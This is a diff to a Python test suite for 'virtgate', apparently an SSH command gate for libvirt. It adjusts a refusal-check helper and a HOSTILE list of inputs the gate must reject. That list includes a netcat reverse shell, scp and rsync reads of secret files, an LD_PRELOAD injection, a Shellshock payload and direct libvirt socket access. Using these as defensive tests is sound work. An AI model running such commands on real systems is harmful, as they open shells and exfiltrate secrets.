@@ -518,11 +518,9 @@ def test_scp(door, folder, protocol, direction):
 # --- commands and shells -------------------------------------------------------------------------------------------
 
 def refused(out):
-    """One line of the gate's, nothing else, and an exit code that says "usage", "not for you" or, of libvirt's protocol,
-    "not offered"."""
+    """One line of the gate's, nothing else, and an exit code that says "usage" or "not for you"."""
     assert out.stdout == b""
-    assert out.returncode == (69 if b"libvirt connections" in out.stderr else 77 if b"no console" in out.stderr else 64), \
-        (out.returncode, out.stderr)
+    assert out.returncode == (77 if b"no console" in out.stderr else 64), (out.returncode, out.stderr)
     text = out.stderr.decode("utf-8")
     assert text.startswith("virtgate: ") and text.endswith("\n") and len(out.stderr) <= 300
     line = text.rstrip("\r\n")
@@ -539,7 +537,7 @@ HOSTILE = [
     "nc -e /bin/sh {host} {port}", "nc -l -p 0", "sh -c 'nc -U {socket}'", "internal-sftp",
     "/usr/lib/openssh/sftp-server", "scp -t .", "scp -f {secret}", "rsync --server --sender . {secret}",
     "git-upload-pack {secret}", "virsh -c qemu:///system list --all", "env LD_PRELOAD={secret} list",
-    "virt-ssh-helper qemu:///system", "nc -U /run/libvirt/libvirt-sock-ro", "() {{ :; }}; touch {mark}", "\x1b[2Jlist",
+    "virt-ssh-helper", "nc -U /run/libvirt/virtlogd-sock", "() {{ :; }}; touch {mark}", "\x1b[2Jlist",
     "display a\u202eb", "x" * 70000,
 ]
 
